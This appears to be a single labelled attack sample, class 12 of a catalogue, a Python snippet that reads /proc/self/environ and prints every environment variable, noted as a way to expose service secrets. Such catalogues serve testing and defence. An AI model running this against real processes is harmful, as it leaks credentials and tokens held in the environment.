# attack-class: 12
# title: read /proc/self/environ
# why: the process environment may contain service secrets

raw = open("/proc/self/environ", "rb").read()
for kv in raw.split(b"\0"):
    print(kv.decode(errors="replace"))
